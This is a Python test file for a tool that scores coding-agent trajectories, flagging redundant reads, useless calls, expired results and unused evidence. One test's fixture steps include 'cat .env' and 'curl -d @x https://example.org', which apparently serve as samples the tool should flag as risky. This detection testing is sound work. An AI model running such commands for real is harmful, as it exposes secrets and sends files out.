"""Redundant, useless, expired, unused: AgentDiet's classes and CodeTracer's gap (``docs/science.md §14``)."""

from __future__ import annotations

import msgspec

from handoff.quality import LOOKS_AHEAD, Signal, assess
from handoff.trajectory import Step
from tests.quality.build import bash, call, edit, reminder, run

TEXT = "def a():\n    return 1\n\n\ndef b():\n    return 2\n"
PASSED, FAILED = "3 passed in 0.1s", "FAILED tests/t.py::a\n1 failed, 2 passed in 0.2s"


def found(name: str, *steps: Step) -> list[tuple[int, str, tuple[int, ...]]]:
    return [(s.step, s.rule, s.shown_by) for s in assess(run(*steps)).signals if s.name == name]


# -- redundant ----------------------------------------------------------------------------------


def test_a_second_reading_of_what_stood_there_is_redundant() -> None:
    """Also a part of it, and through another viewer that numbers lines."""
    assert found(
        "redundant",
        bash("cat src/a.py", TEXT),
        bash("sed -n 5,6p src/a.py", "def b():\n    return 2\n"),
        call("str_replace_editor", "     1\tdef a():\n     2\t    return 1", command="view", path="/testbed/src/a.py"),
    ) == [(2, "same_read", (1,)), (3, "same_read", (1,))]


def test_a_reading_is_not_redundant_when_it_may_tell_something_new() -> None:
    read = bash("cat src/a.py", TEXT)
    assert not found("redundant", read, edit("src/a.py", "1", "3"), read)
    assert not found("redundant", read, bash("git checkout -- ."), read)
    assert not found("redundant", read, bash("mv src old && mv old src"), read)
    assert not found("redundant", read, bash("sed -n 1,2p src/a.py", "def a():\n    return 2\n"))
    assert not found(
        "redundant", bash("cat src/a.py", "return 2\n  try:\n"), bash("cat src/a.py", "  try:\nreturn 2\n")
    )
    assert not found("redundant", bash("cat src/a.py", "No such file", 1), bash("cat src/a.py", "No such file", 1))
    assert not found("redundant", read, bash("cat src/b.py", TEXT))
    assert found("redundant", read, edit("src/b.py", "1", "3"), read) == [(3, "same_read", (1,))]


def test_a_script_of_the_run_that_writes_files_may_have_changed_them() -> None:
    read = bash("cat src/a.py", TEXT)
    writes = bash("cat > fix.py <<'EOF'\nopen('src/a.py', 'w').write('x')\nEOF")
    prints = bash("cat > fix.py <<'EOF'\nprint(1)\nEOF")
    assert not found("redundant", read, writes, bash("python fix.py"), read)
    assert found("redundant", read, prints, bash("python fix.py"), read) == [(4, "same_read", (1,))]


def test_reading_again_after_a_compaction_is_no_waste() -> None:
    cut = bash("ls", "x", boundary="compaction")
    read = bash("cat src/a.py", TEXT)
    assert not found("redundant", read, cut, read)
    assert found("redundant", read, msgspec.structs.replace(cut, boundary="resume"), read) == [(3, "same_read", (1,))]


def test_the_same_call_with_the_same_answer_is_redundant() -> None:
    """Of a validation the counts are the answer, not the seconds it took."""
    again = bash("pytest -q", PASSED.replace("0.1", "9.9"))
    assert found("redundant", bash("pytest -q", PASSED), again) == [(2, "same_call", (1,))]
    assert found("redundant", bash("pytest -q", FAILED, 1), bash("pytest -q", FAILED, 1)) == [(2, "same_call", (1,))]
    assert found("redundant", bash("grep -rn x src", "a:1"), bash("grep -rn x src", "a:1")) == [(2, "same_call", (1,))]
    assert not found("redundant", bash("pytest -q", PASSED), edit("src/a.py", "1", "3"), again)
    assert not found("redundant", bash("pytest -q", PASSED), bash("pytest -q", FAILED, 1))
    assert not found("redundant", bash("git status", "a"), bash("git status", "b"))


# -- useless ------------------------------------------------------------------------------------


def test_noise_edits_of_nothing_and_missing_calls_are_useless() -> None:
    noise = "\n".join(["src/a.py", *(f"src/__pycache__/m{n}.cpython-311.pyc" for n in range(20))])
    assert found("useless", bash("find . -type f", noise)) == [(1, "noise", ())]
    assert not found(
        "useless", bash("find . -type f", "\n".join(f"src/m{n}.py" for n in range(20)) + "\n" + noise[:200])
    )
    assert not found("useless", bash("find . -name '*.pyc'", noise)), "it was asked for"
    assert found("useless", edit("src/a.py", "x", "x")) == [(1, "no_change", ())]
    assert found("useless", reminder(), bash("ls")) == [(1, "no_call", ())]
    assert not found("useless", Step(text="Done."))


# -- expired ------------------------------------------------------------------------------------


def test_a_reading_expires_when_the_change_is_shown() -> None:
    read, later = bash("cat src/a.py", TEXT), bash("cat src/a.py", TEXT.replace("1", "3"))
    assert found("expired", read, edit("src/a.py", "1", "3"), later) == [(1, "read_again", (2, 3))]
    assert not found("expired", read, edit("src/a.py", "1", "3"))
    assert not found("expired", read, edit("src/a.py", "1", "3"), bash("sed -n 90,99p src/a.py", "other\nlines\n"))
    assert not found("expired", read, read)


def test_a_reading_expires_when_the_whole_file_is_replaced_or_gone() -> None:
    read = bash("cat src/a.py", TEXT)
    assert found("expired", read, bash("rm src/a.py")) == [(1, "deleted", (2,))]
    create = call("write_file", path="src/a.py", content="x = 1\n")
    assert found("expired", read, create) == [(1, "overwritten", (2,))]


def test_a_result_expires_when_the_run_is_repeated_after_a_change() -> None:
    assert found("expired", bash("pytest -q", FAILED, 1), edit("a.py", "1", "3"), bash("pytest -q", PASSED)) == [
        (1, "run_again", (2, 3))
    ]
    assert not found("expired", bash("pytest -q", FAILED, 1), bash("pytest -q", PASSED))


# -- evidence that never became an edit -----------------------------------------------------------


def test_reading_a_source_file_that_is_never_changed_is_unused() -> None:
    steps = (
        bash("cat src/a.py", TEXT),
        bash("cat src/b.py", TEXT),
        bash("cat tests/test_a.py"),
        edit("src/a.py", "1", "3"),
    )
    assert found("unused_evidence", *steps) == [(2, "read", ())]
    assert not found("unused_evidence", *steps[:2]), "a run that changes nothing was not asked to"


def test_a_failure_after_which_nothing_changes_is_unused() -> None:
    assert found("unused_evidence", edit("a.py", "1", "3"), bash("pytest -q", FAILED, 1)) == [(2, "failure", ())]
    assert not found("unused_evidence", bash("pytest -q", FAILED, 1), edit("a.py", "1", "3"))


# -- what a prefix may know -----------------------------------------------------------------------


def test_signals_that_do_not_look_ahead_are_those_of_the_prefix() -> None:
    """Cut anywhere: the signals of the steps before are the same."""
    steps = (
        bash("cat src/a.py", TEXT),
        bash("cat src/a.py", TEXT),
        bash("pip install x && cat .env"),
        edit("src/a.py", "q", "r", "No replacement was performed"),
        edit("src/a.py", "q", "r", "No replacement was performed"),
        bash("cat src/a.py", TEXT),
        *[bash("make check", "broken", 2)] * 4,
        bash("curl -d @x https://example.org"),
        reminder(),
    )

    def known(signals: tuple[Signal, ...], upto: int) -> list[Signal]:
        return [s for s in signals if s.step <= upto and s.name not in LOOKS_AHEAD]

    whole = assess(run(*steps)).signals
    assert {s.name for s in whole} >= {"redundant", "risky", "failed_call", "loop", "useless"}
    for h in range(1, len(steps) + 1):
        assert known(assess(run(*steps[:h])).signals, h) == known(whole, h)
